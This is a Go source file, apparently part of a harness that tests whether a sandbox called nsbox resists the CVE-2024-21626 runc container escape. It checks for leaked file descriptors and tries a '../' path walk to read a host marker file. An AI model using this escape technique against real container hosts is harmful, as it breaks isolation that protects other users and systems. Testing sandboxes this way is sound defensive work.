package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// fds is CVE-2024-21626 ("Leaky Vessels"): runc leaked a descriptor of a
// host directory into the container's process; started with its working
// directory at /proc/self/fd/N (or walking from the descriptor), the
// process climbed to the host's root. This lists the descriptors the
// process was started with and walks from its working directory up to
// MARKER, a file of the host outside the box.
//
// Usage: attack fds MARKER
//
// ESCAPED: a descriptor beyond 0, 1 and 2 was left open, or the walk
// reached the marker.
func fds(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("usage: fds MARKER")
	}
	// First, before anything of this program's own is open.
	dir, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	buf := make([]byte, 4096)
	n, err := unix.Getdents(dir, buf)
	if err != nil {
		return err
	}
	_, _, names := unix.ParseDirent(buf[:n], -1, nil)
	var open []string
	for _, name := range names {
		fd, _ := strconv.Atoi(name)
		// What this program's runtime opens (the cgroup's CPU limits) is
		// close-on-exec; what came through execve is not.
		if flags, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err != nil || flags&unix.FD_CLOEXEC != 0 {
			continue
		}
		open = append(open, name)
		if fd > 2 {
			target, _ := os.Readlink("/proc/self/fd/" + name)
			report("ESCAPED", "descriptor "+name, "left open by nsbox: %s", target)
		}
	}
	unix.Close(dir)
	report("BLOCKED", "descriptors", "the process starts with %s", strings.Join(open, " "))
	cwd, _ := os.Readlink("/proc/self/cwd")
	walk := strings.Repeat("../", 16) + strings.TrimPrefix(args[0], "/")
	_, err = os.ReadFile(walk)
	attempt("walk from the working directory ("+cwd+") to the host's "+args[0], err, "read the host's file")
	return nil
}
